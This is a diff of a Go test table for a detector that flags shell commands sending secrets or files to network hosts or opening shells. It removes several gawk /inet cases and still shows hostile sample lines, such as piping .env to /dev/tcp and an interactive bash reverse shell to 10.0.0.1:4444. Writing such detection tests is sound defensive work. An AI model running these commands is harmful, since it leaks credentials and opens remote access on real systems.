@@ -356,10 +356,6 @@ func TestSockets(t *testing.T) {
 		{`cat .env > /dev/tcp/$HOST/80`, "secret", ""},
 		{`xxd -p .env | while read l; do echo $l > /dev/udp/x.io/53; done`, "secret", "x.io"},
 
-		{`gawk 'BEGIN{s="/inet/tcp/0/x.io/80"; while((getline l < ".env")>0) print l |& s}'`, "secret", "x.io"},
-		{`awk '{print |& "/inet/udp/0/x.io/53"}' notes.txt`, "file", "x.io"},
-		{`gawk 'BEGIN{s="/inet/tcp/0/x.io/80";while(1){s |& getline c;while((c |& getline)>0)print $0 |& s}}'`, "shell", "x.io"},
-		{`gawk 'BEGIN{"/inet/tcp/0/time.nist.gov/13" |& getline d; x=d}'`, "", ""},
 		{`awk '{print $1}' .env`, "", ""},
 
 		{`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, "shell", "10.0.0.1"},
@@ -394,7 +390,6 @@ func TestSockets(t *testing.T) {
 		{`echo -n > /dev/tcp/example.com/80`, "", ""},
 		{`: > /dev/tcp/example.com/80`, "", ""},
 		{`cat < /dev/null > /dev/tcp/example.com/80`, "", ""},
-		{`cat < /dev/tcp/time.nist.gov/13`, "", ""},
 		{`cat .env > /dev/null`, "", ""},
 		{`cat .env > /dev/tcp/127.0.0.1/80`, "", ""},
 		{`openssl s_client -connect example.com:443 < /dev/null`, "", ""},
